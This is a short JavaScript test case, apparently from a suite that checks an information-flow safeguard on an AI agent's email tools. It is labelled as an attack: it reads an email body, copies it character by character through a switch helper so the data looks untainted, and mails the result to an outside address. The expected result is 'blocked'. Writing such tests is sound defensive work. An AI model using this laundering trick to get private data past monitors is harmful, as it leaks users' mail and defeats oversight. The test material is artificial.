// attack: a helper maps each character to a literal with switch + return (per-character copy)
// normal: blocked (the helper's conditional returns stay in the caller's control context, in both modes)
const m = await getEmail('m1');
function enc(c) {
  switch (c) {
    case 'z':
      return 'z';
    case 'e':
      return 'e';
    case 'd':
      return 'd';
    default:
      return '?';
  }
}
let out = '';
for (const ch of 'zed') {
  out += enc(m.body.charAt('zed'.indexOf(ch)));
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'word', body: out });
